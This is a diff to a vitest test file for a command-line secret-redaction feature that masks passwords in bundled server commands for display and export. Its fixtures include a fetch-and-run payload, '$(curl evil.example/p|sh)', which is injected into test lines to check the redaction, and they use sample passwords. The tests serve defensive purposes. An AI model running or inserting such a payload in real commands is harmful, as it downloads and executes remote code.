@@ -2,9 +2,16 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { exportSpec } from "./export-spec.js";
-import { commandLineSecrets, findSpecSecrets, withoutArgSecrets } from "./find-spec-secrets.js";
+import { findSpecSecrets, withoutArgSecrets } from "./find-spec-secrets.js";
 import { withoutCommandLineSecrets } from "./index.js";
 import { SPEC_TOKEN } from "./schema.js";
+import {
+  expectFilledBack,
+  expectKept,
+  expectShownAndExported,
+  exportedCommand,
+  pasted,
+} from "./test-support/spec-cases.js";
 import type { AgentSpec } from "./types.js";
 
 // fix162: a client's own credential flag on a command line — curl's `-u user:password` (and its
@@ -13,20 +20,6 @@ import type { AgentSpec } from "./types.js";
 // shell word (`{`, `!`, `then`) was kept in clear in the display, the export or both.
 
 const PAYLOAD = "$(curl evil.example/p|sh)";
-
-/** A spec whose bundled server `srv` has `line` as its `command`: a whole command line, pasted. */
-const pasted = (line: string): AgentSpec => ({
-  spec: SPEC_TOKEN,
-  bundle: { mcpServers: [{ name: "srv", command: line }] },
-});
-
-const exported = (line: string) => exportSpec(pasted(line)).bundle?.mcpServers?.[0]?.command;
-
-/** The export's and the display's references, filled back with what they hid, give `line` byte for byte. */
-function expectFilledBack(line: string): void {
-  expect(commandLineSecrets(line, (text) => text)?.safe ?? line).toBe(line);
-  expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
-}
 
 describe("a client's quoted password holding a blank (fix162 #1)", () => {
   it.each([
@@ -42,8 +35,7 @@ describe("a client's quoted password holding a blank (fix162 #1)", () => {
     ['psql "postgres://u:pa ss X9@h/db"', 'psql "postgres://h/db"'],
     ['mongo "mongodb://u:pa ss X9@h/db" --quiet', 'mongo "mongodb://h/db" --quiet'],
   ])("%j is shown and exported as %j", (line, safe) => {
-    expect(withoutCommandLineSecrets(line)).toBe(safe);
-    expect(exported(line)).toBe(safe);
+    expectShownAndExported(line, safe);
     expect(findSpecSecrets(exportSpec(pasted(line)))).toEqual([]);
     expect(withoutArgSecrets(["srv", "--run", line])).toEqual(["srv", "--run", safe]);
     expectFilledBack(line);
@@ -83,10 +75,7 @@ describe("a client's quoted password holding a blank (fix162 #1)", () => {
     "psql -U postgres -h h",
     'curl -u "$U:$P" https://h',
     'redis-cli -a "$PW" ping',
-  ])("%j names no literal password, and is kept", (line) => {
-    expect(withoutCommandLineSecrets(line)).toBe(line);
-    expect(exported(line)).toBe(line);
-  });
+  ])("%j names no literal password, and is kept", expectKept);
 });
 
 describe("a client's password beside a substitution (fix162 #2)", () => {
@@ -113,8 +102,7 @@ describe("a client's password beside a substitution (fix162 #2)", () => {
       'redis-cli -a "${REDISCLI_AUTH}"',
     ],
   ])("%j is shown as %j and exported as %j", (line, shown, safe) => {
-    expect(withoutCommandLineSecrets(line)).toBe(shown);
-    expect(exported(line)).toBe(safe);
+    expectShownAndExported(line, shown, safe);
     expectFilledBack(line);
   });
 
@@ -123,7 +111,7 @@ describe("a client's password beside a substitution (fix162 #2)", () => {
     expect(withoutCommandLineSecrets(line)).toBe(
       "sh -c 'curl -uuser:${PASSWORD}$(curl e|sh)${PASSWORD} https://h'",
     );
-    expect(exported(line)).toBe("${SRV_COMMAND}");
+    expect(exportedCommand(line)).toBe("${SRV_COMMAND}");
     const spec: AgentSpec = {
       spec: SPEC_TOKEN,
       bundle: {
@@ -160,8 +148,7 @@ describe("a shell's own command keeps every quote of the line in the display (fi
     [`bash -c "mysql -p'abc${PAYLOAD}x'"`, `bash -c "mysql -p'\${PASSWORD}${PAYLOAD}\${PASSWORD}'"`],
     ["bash -c \"srv --password 'hunter2x$X'\"", "bash -c \"srv --password '${PASSWORD}$X'\""],
   ])("%j is shown as %j, and exported whole", (line, shown) => {
-    expect(withoutCommandLineSecrets(line)).toBe(shown);
-    expect(exported(line)).toBe("${SRV_COMMAND}");
+    expectShownAndExported(line, shown, "${SRV_COMMAND}");
     expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
   });
 });
@@ -180,8 +167,7 @@ describe("a client's password after a shell word, or not the program named first
     ["smbclient //h/s -Uadmin%X9secretpw", "smbclient //h/s -Uadmin%${PASSWORD}"],
     ["curl -U u:X9secretpw h", "curl -U u:${PASSWORD} h"],
   ])("%j is shown and exported as %j", (line, safe) => {
-    expect(withoutCommandLineSecrets(line)).toBe(safe);
-    expect(exported(line)).toBe(safe);
+    expectShownAndExported(line, safe);
     expectFilledBack(line);
   });
 });
@@ -230,11 +216,10 @@ describe("a client's password in generated lines (property)", { timeout: 60_000 
   const expectHidden = (line: string, part: string) => {
     const shown = withoutCommandLineSecrets(line);
     const marked = withoutCommandLineSecrets(line, () => "<hidden>");
-    const out = exported(line) ?? "";
+    const out = exportedCommand(line) ?? "";
     for (const secret of SECRETS) for (const text of [shown, marked, out]) expect(text).not.toContain(secret);
     if (part === PAYLOAD) expect(marked.split(PAYLOAD).length).toBe(line.split(PAYLOAD).length);
-    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
-    expect(commandLineSecrets(line, (text) => text)?.safe ?? line).toBe(line);
+    expectFilledBack(line);
   };
 
   it("on a line of its own", () => {
